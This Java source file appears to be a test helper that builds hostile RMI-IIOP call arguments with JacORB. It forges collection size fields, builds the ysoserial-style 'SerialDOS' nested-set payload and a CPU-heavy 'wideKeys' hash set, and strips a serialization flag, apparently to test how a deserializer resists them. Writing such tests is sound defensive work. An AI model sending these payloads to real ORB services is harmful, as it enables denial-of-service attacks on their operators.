package org.irmi.orb;

import java.io.Serializable;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.Set;

import org.omg.CORBA.ORB;

/**
 * The argument bytes of hostile RMI-IIOP calls, made as an attacker makes them: a real JacORB
 * client marshals an ordinary value ({@code Util.writeAny}, what a stub does for a
 * {@code Serializable} parameter), and the size field is then rewritten.
 */
final class HostilePayloads {

    /** The element count of the collections {@link #sizedAs} rewrites (no other int of their headers is 3). */
    static final int ELEMENTS = 3;

    private HostilePayloads() {
    }

    /** {@code value} marshalled as a {@code Serializable} argument by {@code orb}. */
    static byte[] marshal(ORB orb, Serializable value) {
        org.jacorb.orb.CDROutputStream out = new org.jacorb.orb.CDROutputStream(orb);
        javax.rmi.CORBA.Util.writeAny(out, value);
        return out.getBufferCopy();
    }

    /**
     * {@code collection} (of {@link #ELEMENTS} {@code Integer}s 7, 8, 9, or a map of them) marshalled,
     * with every aligned int equal to {@link #ELEMENTS} between the value's header and its first
     * element (the size field, and the capacity or count that {@code writeObject} writes beside it)
     * rewritten to {@code declared}.
     */
    static byte[] sizedAs(ORB orb, Serializable collection, int declared) {
        byte[] b = marshal(orb, collection);
        int firstElement = indexOf(b, "RMI:java.lang.Integer".getBytes(StandardCharsets.ISO_8859_1));
        if (firstElement < 0) {
            throw new IllegalArgumentException("no Integer element in " + collection);
        }
        // the value itself: after the Any's TypeCode, which names the class too (and whose kinds and
        // member counts may be 3), at the last mention of the class before the first element
        int value = lastIndexOf(b, ("RMI:" + collection.getClass().getName() + ":").getBytes(StandardCharsets.ISO_8859_1),
                firstElement);
        int patched = 0;
        for (int i = (value + 3) & ~3; i + 4 <= firstElement; i += 4) {
            if (readInt(b, i) == ELEMENTS) {
                b[i] = (byte) (declared >>> 24);
                b[i + 1] = (byte) (declared >>> 16);
                b[i + 2] = (byte) (declared >>> 8);
                b[i + 3] = (byte) declared;
                patched++;
            }
        }
        if (patched == 0) {
            throw new IllegalArgumentException("no size field found in " + collection);
        }
        return b;
    }

    /**
     * The "SerialDOS" shape (as in ysoserial): {@code depth} levels of two {@code HashSet}s, each
     * holding both sets of the level below. Reading it calls {@code hashCode} about 2^depth times;
     * built top-down, it costs the client nothing.
     */
    static Set<Object> nestedSets(int depth) {
        Set<Object> root = new HashSet<>();
        Set<Object> s1 = root;
        Set<Object> s2 = new HashSet<>();
        for (int i = 0; i < depth; i++) {
            Set<Object> t1 = new HashSet<>();
            Set<Object> t2 = new HashSet<>();
            t1.add("x");
            s1.add(t1);
            s1.add(t2);
            s2.add(t1);
            s2.add(t2);
            s1 = t1;
            s2 = t2;
        }
        return root;
    }

    /**
     * A set whose reading costs CPU far beyond its bytes while staying inside the hash nesting
     * limit: {@code keys} lists {@code [wide, i]} in a {@code HashSet}, where {@code wide} is one
     * list holding {@code width} references to one list of {@code width} {@code Integer}s (nesting
     * 4: the set, a key, {@code wide}, the inner list). Each key's {@code hashCode}, which the
     * set's {@code readObject} computes as it adds the key, visits width^2 elements, while the
     * shared lists are on the wire once. Built with the keys' lists empty and filled after they
     * were added, it costs the client nothing.
     */
    static Set<Object> wideKeys(int keys, int width) {
        java.util.List<Object> wide = new java.util.ArrayList<>();
        java.util.List<Object> inner = new java.util.ArrayList<>();
        Set<Object> set = new HashSet<>();
        for (int i = 0; i < keys; i++) {
            java.util.List<Object> key = new java.util.ArrayList<>();
            key.add(i);
            set.add(key);
            key.add(0, wide); // after it was hashed: the client never computes the costly hash
        }
        for (int i = 0; i < width; i++) {
            wide.add(inner);
            inner.add(i);
        }
        return set;
    }

    /**
     * {@code list} (an {@code ArrayList} of {@link #ELEMENTS} {@code Integer}s) marshalled, with
     * the flag of its custom-marshalled data that says {@code defaultWriteObject} was called
     * cleared: its {@code readObject}'s {@code defaultReadObject} then finds no default data
     * (GlassFish's {@code ORBIO00204}, "Default data not sent or already read").
     */
    static byte[] withoutDefaultData(ORB orb, java.util.ArrayList<Integer> list) {
        byte[] b = marshal(orb, list);
        int firstElement = indexOf(b, "RMI:java.lang.Integer".getBytes(StandardCharsets.ISO_8859_1));
        int value = lastIndexOf(b, "RMI:java.util.ArrayList:".getBytes(StandardCharsets.ISO_8859_1), firstElement);
        int size = -1;
        for (int i = (value + 3) & ~3; i + 4 <= firstElement; i += 4) {
            if (readInt(b, i) == ELEMENTS) {
                size = i; // the default data: the size field
                break;
            }
        }
        // before it: the stream format version (1 or 2), the flag (1), then padding to the size field
        for (int i = size - 2; i > value; i--) {
            boolean padding = true;
            for (int j = i + 2; j < size; j++) {
                padding &= b[j] == 0;
            }
            if (padding && (b[i] == 1 || b[i] == 2) && b[i + 1] == 1) {
                b[i + 1] = 0;
                return b;
            }
        }
        throw new IllegalArgumentException("no defaultWriteObject flag found before the size field at " + size);
    }

    static int readInt(byte[] b, int at) {
        return ((b[at] & 0xff) << 24) | ((b[at + 1] & 0xff) << 16) | ((b[at + 2] & 0xff) << 8) | (b[at + 3] & 0xff);
    }

    private static int lastIndexOf(byte[] b, byte[] what, int before) {
        for (int i = before - what.length; i >= 0; i--) {
            if (java.util.Arrays.equals(b, i, i + what.length, what, 0, what.length)) {
                return i;
            }
        }
        throw new IllegalArgumentException("no " + new String(what, StandardCharsets.ISO_8859_1));
    }

    private static int indexOf(byte[] b, byte[] what) {
        for (int i = 0; i + what.length <= b.length; i++) {
            if (java.util.Arrays.equals(b, i, i + what.length, what, 0, what.length)) {
                return i;
            }
        }
        return -1;
    }
}
